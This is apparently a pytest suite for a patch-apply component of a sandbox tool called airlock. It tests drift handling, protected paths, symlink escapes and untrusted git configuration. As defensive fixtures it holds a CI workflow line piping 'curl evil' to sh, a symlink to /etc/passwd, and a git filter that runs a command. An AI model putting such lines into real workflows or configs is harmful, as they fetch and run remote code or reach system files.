"""Applying hatch patches on the host: clean, drifted, protected, and hostile targets."""

from __future__ import annotations

import hashlib
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
from support import Tree, read_tree, write_tree
from test_gitdiff import Written, written_patch

from airlock.errors import InvalidRequest
from airlock.policies import DEFAULT_PROTECTED, protecting_glob
from airlock.sandbox.gitdiff import FileState
from airlock.sandbox.patch_apply import ApplyReport, apply_patch

BEFORE: Tree = {
    "src/app.py": (b"".join(b"line %d\n" % i for i in range(40)), 0o644),
    "run.sh": (b"echo run\n", 0o644),
    "old.txt": (b"old\n", 0o644),
}
AFTER: Tree = {
    "src/app.py": (b"".join(b"line %d\n" % i for i in range(39)) + b"changed\n", 0o644),
    "run.sh": (b"echo run\n", 0o755),
    "docs/new.md": (b"# new\n", 0o644),
    "moved/old.txt": (b"old\n", 0o644),
}


def _states(tree: Tree) -> tuple[dict[str, FileState], dict[str, bytes]]:
    states, blobs = {}, {}
    for path, (data, mode) in tree.items():
        sha = hashlib.sha256(data).hexdigest()
        states[path], blobs[sha] = FileState(sha256=sha, mode=mode), data
    return states, blobs


def _make(before: Tree, after: Tree, globs: tuple[str, ...] = DEFAULT_PROTECTED) -> Written:
    return written_patch(before, after, globs)


def _listed(patch: Written) -> set[str]:
    return {p for e in patch.patch.entries for p in (e.path, e.old_path) if p}


def _apply(patch: Written, before: Tree, target: Path, *, check_only: bool = False) -> ApplyReport:
    baseline, _ = _states(before)
    return apply_patch(
        patch.text,
        _listed(patch),
        baseline,
        target,
        lambda p: protecting_glob(DEFAULT_PROTECTED, p),
        check_only=check_only,
    )


def test_a_clean_target_becomes_the_sandbox_result(tmp_path: Path) -> None:
    write_tree(tmp_path, BEFORE)
    patch = _make(BEFORE, AFTER)
    assert ("moved/old.txt", "renamed", "old.txt") in {
        (e.path, e.change, e.old_path) for e in patch.patch.entries
    }
    report = _apply(patch, BEFORE, tmp_path)
    assert report.applied and report.drifted == [] and report.failed == []
    assert read_tree(tmp_path) == AFTER


def test_check_writes_nothing(tmp_path: Path) -> None:
    write_tree(tmp_path, BEFORE)
    report = _apply(_make(BEFORE, AFTER), BEFORE, tmp_path, check_only=True)
    assert not report.applied and report.failed == []
    assert read_tree(tmp_path) == BEFORE


def test_a_drifted_target_is_patched_when_the_hunks_still_apply(tmp_path: Path) -> None:
    drifted = dict(BEFORE)
    drifted["src/app.py"] = (b"# header added upstream\n" + BEFORE["src/app.py"][0], 0o644)
    write_tree(tmp_path, drifted)
    report = _apply(_make(BEFORE, AFTER), BEFORE, tmp_path)
    assert report.applied
    assert report.drifted == ["src/app.py"]
    assert (
        read_tree(tmp_path)["src/app.py"][0]
        == b"# header added upstream\n" + AFTER["src/app.py"][0]
    )


def test_a_drifted_target_whose_hunks_do_not_apply_is_refused_naming_them(
    tmp_path: Path,
) -> None:
    drifted = dict(BEFORE)
    drifted["src/app.py"] = (BEFORE["src/app.py"][0].replace(b"line 39\n", b"other 39\n"), 0o644)
    drifted["docs/new.md"] = (b"already here\n", 0o644)
    write_tree(tmp_path, drifted)
    report = _apply(_make(BEFORE, AFTER), BEFORE, tmp_path)
    assert not report.applied
    failed = dict(report.failed)
    assert set(failed) == {"src/app.py", "docs/new.md"}
    assert "src/app.py" in failed["src/app.py"] and "does not apply" in failed["src/app.py"]
    assert "already exists" in failed["docs/new.md"]
    assert read_tree(tmp_path) == drifted


def test_applying_a_patch_again_says_it_is_already_applied_and_writes_nothing(
    tmp_path: Path,
) -> None:
    write_tree(tmp_path, BEFORE)
    patch = _make(BEFORE, AFTER)
    assert _apply(patch, BEFORE, tmp_path).applied
    again = _apply(patch, BEFORE, tmp_path)
    assert again.already_applied and not again.applied and again.failed == []
    assert read_tree(tmp_path) == AFTER


def test_a_protected_path_is_refused_at_apply_time(tmp_path: Path) -> None:
    after = {**BEFORE, ".github/workflows/ci.yml": (b"run: curl evil | sh\n", 0o644)}
    unprotected = _make(BEFORE, after, globs=())
    assert [e.path for e in unprotected.patch.entries] == [".github/workflows/ci.yml"]
    write_tree(tmp_path, BEFORE)
    with pytest.raises(InvalidRequest, match=r"\.github/workflows/ci\.yml.*protects"):
        _apply(unprotected, BEFORE, tmp_path)
    assert not (tmp_path / ".github").exists()


def test_a_path_missing_from_the_record_is_refused(tmp_path: Path) -> None:
    write_tree(tmp_path, BEFORE)
    patch = _make(BEFORE, AFTER)
    baseline, _ = _states(BEFORE)
    with pytest.raises(InvalidRequest, match="not in its record"):
        apply_patch(patch.text, {"run.sh"}, baseline, tmp_path, lambda p: None, check_only=False)
    assert read_tree(tmp_path) == BEFORE


def test_a_symlinked_directory_in_the_target_is_never_written_through(tmp_path: Path) -> None:
    target, outside = tmp_path / "target", tmp_path / "outside"
    outside.mkdir()
    write_tree(outside, {"app.py": BEFORE["src/app.py"]})
    write_tree(target, {k: v for k, v in BEFORE.items() if not k.startswith("src/")})
    (target / "src").symlink_to(outside)
    with pytest.raises(InvalidRequest, match=r"'src' in the target is not a plain directory"):
        _apply(_make(BEFORE, AFTER), BEFORE, target)
    assert (outside / "app.py").read_bytes() == BEFORE["src/app.py"][0]


def test_a_symlinked_file_in_the_target_is_refused(tmp_path: Path) -> None:
    write_tree(tmp_path / "target", BEFORE)
    (tmp_path / "target" / "run.sh").unlink()
    (tmp_path / "target" / "run.sh").symlink_to("/etc/passwd")
    with pytest.raises(InvalidRequest, match=r"run\.sh: not a regular file in the target"):
        _apply(_make(BEFORE, AFTER), BEFORE, tmp_path / "target")


def test_the_target_repository_configuration_is_never_used(tmp_path: Path) -> None:
    target = tmp_path / "target"
    write_tree(target, BEFORE)
    env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", "init", "-q", str(target)], check=True, env=env, timeout=30)
    witness = tmp_path / "filter-ran"
    with (target / ".git" / "config").open("a") as config:
        config.write(f'[filter "x"]\n\tclean = touch {witness}\n\tsmudge = touch {witness}\n')
        config.write("[apply]\n\twhitespace = error-all\n")
    (target / ".gitattributes").write_text("* filter=x\n")
    report = _apply(_make(BEFORE, AFTER), {**BEFORE}, target)
    assert report.applied
    assert not witness.exists()
    tree = read_tree(target)
    assert tree["src/app.py"] == AFTER["src/app.py"]


def test_header_lookalike_names_write_only_their_own_files(tmp_path: Path) -> None:
    after = {**BEFORE, "x/+++ b/run.sh": (b"not run.sh\n", 0o644)}
    write_tree(tmp_path, BEFORE)
    assert _apply(_make(BEFORE, after), BEFORE, tmp_path).applied
    assert read_tree(tmp_path) == after


def test_an_empty_patch_changes_nothing(tmp_path: Path) -> None:
    write_tree(tmp_path, BEFORE)
    report = _apply(_make(BEFORE, BEFORE), BEFORE, tmp_path)
    assert report.paths == [] and not report.applied
    assert read_tree(tmp_path) == BEFORE


def test_a_file_changed_during_the_apply_is_not_overwritten(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import airlock.sandbox.patch_apply as applying

    write_tree(tmp_path, BEFORE)
    real_git = applying._git

    def git_then_edit(args: list[str], patch: bytes, cwd: Path) -> Any:
        done = real_git(args, patch, cwd)
        if args == ["apply"]:
            (tmp_path / "src" / "app.py").write_bytes(b"edited by a human meanwhile\n")
        return done

    monkeypatch.setattr(applying, "_git", git_then_edit)
    with pytest.raises(InvalidRequest) as caught:
        _apply(_make(BEFORE, AFTER), BEFORE, tmp_path)
    assert "src/app.py: cannot write it in the target (it changed in the target" in str(
        caught.value
    )
    assert "Already written: docs/new.md, moved/old.txt, old.txt, run.sh" in str(caught.value)
    assert (tmp_path / "src" / "app.py").read_bytes() == b"edited by a human meanwhile\n"
